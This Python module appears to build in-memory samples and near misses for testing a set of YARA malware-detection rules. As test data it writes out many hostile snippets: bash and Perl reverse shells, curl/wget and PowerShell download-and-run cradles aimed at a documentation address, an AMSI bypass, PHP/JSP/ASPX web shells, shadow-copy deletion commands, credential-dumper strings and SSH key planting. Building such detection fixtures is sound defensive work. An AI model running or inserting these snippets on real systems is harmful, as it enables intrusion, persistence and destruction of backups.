"""For each YARA rule of ours: files that meet it and near misses, made here and never written to a disk as they are.

Addresses are those of documentation (RFC 5737). Not a test itself.
"""

import base64
import struct

SH, PY = b"#!/bin/bash\n", b"#!/usr/bin/python3\n"
FETCH = b"wget -q http://192.0.2.7/x"
LONG = base64.b64encode(bytes(range(256)) * 2)
KEY = b"ssh-ed25519 AAAA" + LONG[:60] + b" an@pc"
LARGE = b"#" * (1 << 20)

Sample = tuple[bytes, str]
"""Content and path."""


def elf(kind: int, *strings: bytes) -> bytes:
    """Something that begins as an ELF file of a type (1 object, 2 program, 3 library) and holds strings."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<H", kind) + bytes(46) + b"\0" + b"\0".join(strings) + b"\0"


def pe(*sections: bytes) -> bytes:
    """The head of a Windows program with sections of these names."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, len(sections), 0, 0, 0, 240, 0x22)
    optional = struct.pack("<H", 0x20B) + bytes(106) + struct.pack("<I", 16) + bytes(128)
    table = b"".join(struct.pack("<8s8I", name, 512, 4096, 512, 1024, 0, 0, 0, 0x60000020) for name in sections)
    return (dos + coff + optional + table).ljust(2048, b"\0")


def all_but(parts: list[bytes], joined: bytes = b"\n", path: str = "") -> list[Sample]:
    """The parts together without each of them in turn."""
    return [(joined.join(parts[:at] + parts[at + 1 :]), path) for at in range(len(parts))]


def plain(*contents: bytes) -> list[Sample]:
    """Files whose path says nothing."""
    return [(content, "") for content in contents]


REVERSE = b"bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n"
DROPPER = [b"#!/bin/sh", FETCH + b" -O /tmp/.x", b"chmod 777 /tmp/.x", b"/tmp/.x -d"]
LADDER = [b"#!/bin/sh", *(FETCH + b"." + cpu for cpu in (b"mips", b"arm7", b"x86"))]
PERL = [b"socket(S, PF_INET, SOCK_STREAM, 6);", b"connect(S, $to);", b'open(STDIN, ">&S");', b'exec("/bin/sh -i");']
MINER_ELF = [b"stratum+tcp://pool.example:3333", b'"method":"login"', b"rx/0", b"donate-level"]
LIBRARY = [b"/etc/ld.so.preload", b"dlsym", b"readdir", b"pam_authenticate", b"hide_port"]
MODULE = [b"vermagic=6.1.0", b"sys_call_table", b"register_kprobe", b"hide_pid", b"__x64_sys_getdents64"]
SETTINGS = [
    b'{"pools": [{',
    b'"url": "pool.example:3333",',
    b'"user": "' + b"4" * 40 + b'",',
    b'"algo": "rx/0"}],',
    b'"donate-level": 1}',
]
ENUMERATION = [
    b"#!/bin/sh",
    b"find / -perm -4000 2>/dev/null",
    b"sudo -n -l",
    b"cat /etc/shadow",
    b"getcap -r /",
    b"uname -a",
    b"cat ~/.bash_history",
    b"echo CVE-2021-4034",
]
WINDOWS_SCRIPT = [
    b'var s = new ActiveXObject("WScript.Shell");',
    b'var h = new ActiveXObject("MSXML2.XMLHTTP");',
    b'var a = new ActiveXObject("ADODB.Stream");',
    b"a.SaveToFile(p, 2);",
    b"s.Run(p);",
]
HTA = [b"<hta:application>", b'x = CreateObject("WScript.Shell")', b'c = "powershell -c 1"', b"x.Run c"]
AMSI = b"[Ref].Assembly.GetType(t).GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"

SAMPLES: dict[str, tuple[list[Sample], list[Sample]]] = {
    "reverse_shell_script": (
        plain(SH + REVERSE, PY + b"s=socket.socket(); os.dup2(s.fileno(),0)\n"),
        plain(
            REVERSE,  # text about it, no script
            SH + b"echo > /dev/tcp/192.0.2.7/443\n",  # a port check
            SH + b"bash -i >& /dev/tty 0>&1\n",
            PY + b"s=socket.socket(); s.close()\n",
            SH + REVERSE + LARGE,
        ),
    ),
    "downloader_in_start_folder": (
        [
            (SH + b"curl -s https://192.0.2.7/x | sh\n", "/etc/cron.hourly/x"),
            (SH + b"wget -q http://192.0.2.7/x -O /usr/bin/x; chmod 755 /usr/bin/x\n", "/etc/profile.d/x.sh"),
        ],
        [
            (SH + b"curl -s https://192.0.2.7/x | sh\n", "/home/an/x.sh"),
            (SH + b"curl -s https://192.0.2.7/x -o list\n", "/etc/cron.hourly/x"),
            (SH + b"cat x | sh\n", "/etc/cron.hourly/x"),
            (b"curl -s https://192.0.2.7/x | sh\n", "/etc/cron.hourly/x"),
            (SH + b"curl -s https://192.0.2.7/x | sh\n" + LARGE, "/etc/cron.hourly/x"),
        ],
    ),
    "script_runs_download_from_temp": (
        plain(b"\n".join(DROPPER), SH + b"cd /dev/shm; " + FETCH + b"; chmod +x x; ./x\n"),
        [*all_but(DROPPER), *plain(b"\n".join(DROPPER).replace(b"/tmp/", b"/opt/"), b"\n".join(DROPPER) + LARGE)],
    ),
    "script_for_many_processors": (
        plain(b"\n".join([*LADDER, b"chmod +x x.*"])),
        [*plain(b"\n".join(LADDER)), *all_but([*LADDER, b"chmod +x x.*"])],
    ),
    "script_decodes_and_runs_itself": (
        plain(
            SH + b"echo " + LONG + b" | base64 -d | sh\n",
            SH + b'x="' + LONG + b'"\neval "$(echo $x | base64 -d)"\n',
            SH + b"base64 -d <<E | gunzip | bash\n" + LONG[:76] + b"\nE\n",
        ),
        plain(
            SH + b"echo " + LONG + b" | base64 -d > picture.png\n",
            SH + b"echo aGVsbG8= | base64 -d | sh\n",
            b"echo " + LONG + b" | base64 -d | sh\n",
        ),
    ),
    "script_carries_program": (
        plain(
            SH + b"echo f0VMRgIBA" + LONG + b" | base64 -d > x\n",
            PY + b'x = bytes.fromhex("7f454c460201' + b"00" * 120 + b'")\n',
            SH + b"printf '\\x7fELF" + b"\\x00" * 60 + b"' > x\n",
        ),
        plain(
            SH + b"# f0VMRgIBA" + LONG + b"\n",
            SH + b"echo " + LONG + b" | base64 -d > x\n",
            b"echo f0VMRgIBA" + LONG + b" | base64 -d > x\n",
        ),
    ),
    "python_runs_encoded_code": (
        plain(
            b"import zlib, base64\nexec(zlib.decompress(base64.b64decode(code)))\n",
            b"exec(base64.b64decode('" + LONG + b"'))\n",
            b"exec((_)(b'" + LONG + b"'))\n",
            b"exec(compile(__import__('zlib').decompress(__import__('base64').b64decode(x)), 'x', 'exec'))\n",
        ),
        plain(
            b"import zlib, base64\nprint(zlib.decompress(base64.b64decode(code)))\n",
            b"exec(base64.b64decode('cHJpbnQoMSk='))\n",
            b"data = base64.b64decode('" + LONG + b"')\n",
        ),
    ),
    "perl_reverse_shell": (plain(b"\n".join(PERL)), [*all_but(PERL), *plain(b"\n".join(PERL) + LARGE)]),
    "powershell_download_and_run": (
        plain(
            b"powershell -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')\"",
            "powershell -ep bypass -c iwr http://192.0.2.7/x | iex".encode("utf-16-le"),
            b"powershell -nop -noni -c irm http://192.0.2.7/x | iex",
        ),
        plain(
            b"iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')",  # a person at a prompt
            b"powershell -w hidden -c \"(New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')\"",
            b"powershell -ep bypass -c iex $x",
        ),
    ),
    "powershell_disables_amsi": (
        plain(AMSI, b"$a = AmsiScanBuffer; VirtualProtect($p, 3)", AMSI.decode().encode("utf-16-le")),
        plain(
            AMSI.replace(b"GetField", b"GetName").replace(b"SetValue", b"Value"),
            AMSI.replace(b"amsiInitFailed", b"scanFailed"),
            b"AmsiScanBuffer is a function of amsi.dll",
        ),
    ),
    "powershell_loads_program_from_text": (
        plain(
            b"[Reflection.Assembly]::Load([Convert]::FromBase64String($x))",
            b"$b = [Convert]::FromBase64String($x); VirtualAlloc(0, 9); CreateThread(0)",
        ),
        plain(
            b"[Reflection.Assembly]::Load($x)",
            b"[IO.File]::WriteAllBytes($p, [Convert]::FromBase64String($x))",
            b"$b = [Convert]::FromBase64String($x); VirtualAlloc(0, 9)",
        ),
    ),
    "windows_script_writes_and_runs": (plain(b"\n".join(WINDOWS_SCRIPT)), all_but(WINDOWS_SCRIPT)),
    "html_application_starts_shell": (plain(b"\n".join(HTA)), all_but(HTA)),
    "script_prepares_encryption": (
        plain(
            b"vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\n",
            b"wmic shadowcopy delete & wbadmin delete catalog -quiet",
            b"vssadmin delete shadows /all & net stop vss",
        ),
        plain(
            b"vssadmin delete shadows /for=d: /oldest\r\n",
            b"bcdedit /set {default} recoveryenabled no\r\nwbadmin delete catalog\r\n",
            b"MZ vssadmin delete shadows /all\r\nbcdedit /set {default} recoveryenabled no\r\n",
        ),
    ),
    "php_shell_by_request": (
        plain(
            b"<?php @eval(base64_decode($_POST['x'])); ?>",
            b"<?= system($_GET['c']) ?>",
            b"<?php $_GET['f']($_POST['c']);",
            b"<?php echo `{$_REQUEST['c']}`;",
            b"<?php call_user_func($_GET['f'], $_GET['c']);",
        ),
        plain(
            b"<?php echo htmlspecialchars($_POST['x']); ?>",
            b"<?php system('uptime'); $x = $_GET['c'];",
            b"eval($_POST['x']);",
            b"<?php $rows = array_map('trim', $_GET['x']);",
        ),
    ),
    "php_hidden_code": (
        plain(
            b"<?php eval(gzinflate(base64_decode('x')));",
            b"<?php $f = chr(101).chr(118).chr(97).chr(108).chr(40).chr(41).chr(59); eval($f);",
        ),
        plain(
            b"<?php echo gzinflate(base64_decode('x'));",
            b"<?php eval(base64_decode('x'));",
            b"<?php $f = chr(101).chr(118).chr(97).chr(108).chr(40).chr(41).chr(59); echo $f;",
            b"eval(gzinflate(base64_decode('x')));",
        ),
    ),
    "jsp_shell_by_request": (
        plain(
            b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
            b"<%! Class c = defineClass(b); %><% request.getReader(); Base64.getDecoder(); %>",
        ),
        plain(
            b'<% out.print(request.getParameter("c")); %>',
            b'<% Runtime.getRuntime().exec("uptime"); %>',
            b'Runtime.getRuntime().exec(request.getParameter("c"));',
            b"<%! Class c = defineClass(b); %><% request.getReader(); %>",
        ),
    ),
    "aspx_shell_by_request": (
        plain(
            b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
            b'<%@ Page Language="C#"%><% Process.Start("cmd.exe", "/c " + Request.Form["c"]); %>',
            b"<%@ WebHandler %> Assembly.Load(new RijndaelManaged().CreateDecryptor(Request.BinaryRead(9)))",
        ),
        plain(
            b'<%@ Page Language="C#"%><%= Request.Form["c"] %>',
            b'<%@ Page Language="C#"%><% Process.Start("notepad.exe", Request.Form["c"]); %>',
            b'Process.Start("cmd.exe", "/c " + Request.Form["c"]);',
            b"<%@ WebHandler %> Assembly.Load(name); Request.BinaryRead(9)",
        ),
    ),
    "miner_settings": (
        plain(b"\n".join(SETTINGS)),
        [*all_but(SETTINGS), *plain(b" " + b"\n".join(SETTINGS), b"\n".join(SETTINGS) + LARGE)],
    ),
    "miner_program": (
        plain(elf(2, *MINER_ELF), b"MZ" + b"\0".join(MINER_ELF[:3])),
        plain(elf(2, *MINER_ELF[:2]), b"\0".join(MINER_ELF), elf(2, b"stratum+tcp://", b"stratum+tcp://", b"ethash")),
    ),
    "miner_installer": (
        plain(
            SH + b"pkill -9 kinsing\n" + FETCH + b"/xmrig\ncrontab x\n",
            SH + b"netstat -anp | grep 3333 | xargs kill -9\n" + FETCH + b"\nsetenforce 0\nsystemctl enable x\n",
        ),
        plain(
            SH + b"pkill -9 kinsing\n" + FETCH + b"/xmrig\n",
            SH + b"pkill -9 kinsing\ncrontab x\nrm xmrig\n",
            SH + FETCH + b"/xmrig\ncrontab x\n",
            b"pkill -9 kinsing\n" + FETCH + b"/xmrig\ncrontab x\n",
        ),
    ),
    "elf_packed_without_marks": (
        plain(elf(2, b"UPX!", b"/proc/self/exe"), elf(2, b"PROT_EXEC|PROT_WRITE failed.")),
        plain(
            elf(2, b"UPX!", b"/proc/self/exe", b"$Info: This file is packed with the UPX executable packer"),
            elf(2, b"UPX!"),
            b"UPX! /proc/self/exe",
        ),
    ),
    "pe_packed_to_hide": (
        plain(pe(b".text", b".vmp0"), pe(b".themida")),
        plain(pe(b".text", b".data"), pe(b"UPX0", b"UPX1"), elf(2, b".vmp0"), b"MZ .vmp0"),
    ),
    "python_program_in_temp": (
        [(elf(2, b"MEI\x0c\x0b\x0a\x0b\x0e"), "/tmp/x"), (b"MZ _MEIPASS", r"C:\Windows\Temp\x.exe")],
        [
            (elf(2, b"MEI\x0c\x0b\x0a\x0b\x0e"), "/usr/local/bin/x"),
            (elf(2, b"MEI"), "/tmp/x"),
            (b"_MEIPASS", "/tmp/x.py"),
            (b"MZ _MEIPASS", r"C:\Program Files\x\x.exe"),
        ],
    ),
    "program_named_as_document": (
        [
            (elf(2), "/home/an/report.pdf"),
            (pe(b".text"), r"C:\Users\an\photo.JPG"),
            (pe(b".text"), r"C:\Users\an\report.docx      .exe"),
            (SH, "/home/an/report.pdf.sh"),
        ],
        [
            (b"%PDF-1.7", "/home/an/report.pdf"),
            (elf(2), "/home/an/report"),
            (SH, "/home/an/report.txt"),  # a script may be kept as text
            (pe(b".text"), r"C:\Users\an\report.v2.exe"),
            (b"hello", "/home/an/report.pdf.sh"),
        ],
    ),
    "program_in_hidden_folder": (
        [(elf(2), "/tmp/.a/x"), (SH, "/dev/shm/b/.../x"), (elf(2), "/var/tmp/ /x")],
        [
            (elf(2), "/tmp/a/x"),
            (elf(2), "/home/an/.local/bin/x"),
            (b"hello", "/tmp/.a/x"),
            (elf(2), "/tmp/.a"),
            (SH, "/tmp/build/.venv/bin/x"),
        ],
    ),
    "credential_dumper": (
        plain(
            b"MZ sekurlsa::logonpasswords privilege::debug",
            "lsadump::dcsync token::elevate".encode("utf-16-le"),
            b"asktgt asreproast kerberoast /outfile: /ticket: /nowrap:",
        ),
        plain(b"sekurlsa::logonpasswords", b"asktgt asreproast kerberoast", b"privilege::debug privilege::debug"),
    ),
    "tunnel_tool": (
        plain(elf(2, *[b"github.com/jpillora/chisel/client"] * 3), b"MZ" + b" github.com/fatedier/frp/pkg" * 3),
        plain(
            elf(2, b"github.com/jpillora/chisel/client"),
            b"go get " + b"github.com/jpillora/chisel/client " * 3,
            elf(2, b"github.com/jpillora/chisel/x", b"github.com/fatedier/frp/x", b"rathole::"),
        ),
    ),
    "script_looks_for_ways_up": (
        plain(b"\n".join(ENUMERATION)),
        [
            (b"\n".join(ENUMERATION[:at] + ENUMERATION[at + 1 :]), "")
            for at, part in enumerate(ENUMERATION)
            if part[:2] != b"#!"
        ],
    ),
    "preloaded_library_hides": (
        plain(elf(3, *LIBRARY)),
        [(elf(3, *LIBRARY[:at], *LIBRARY[at + 1 :]), "") for at in range(len(LIBRARY))] + plain(elf(2, *LIBRARY)),
    ),
    "kernel_module_hides": (
        plain(elf(1, *MODULE)),
        [(elf(1, *MODULE[:at], *MODULE[at + 1 :]), "") for at in range(len(MODULE))] + plain(elf(2, *MODULE)),
    ),
    "script_plants_login_key": (
        plain(
            SH + b"echo '" + KEY + b"' >> ~/.ssh/authorized_keys\nchattr +i ~/.ssh/authorized_keys\n",
            SH + b"echo '" + KEY + b"' > /root/.ssh/authorized_keys2\necho PermitRootLogin yes >> sshd_config\n",
        ),
        plain(
            SH + b"echo '" + KEY + b"' >> ~/.ssh/authorized_keys\n",
            SH + b"chattr +i ~/.ssh/authorized_keys\n",
            SH + b"echo '" + KEY + b"' | ssh-keygen -l -f -; chattr +i x\n",
            b"echo '" + KEY + b"' >> ~/.ssh/authorized_keys\nchattr +i ~/.ssh/authorized_keys\n",
        ),
    ),
}
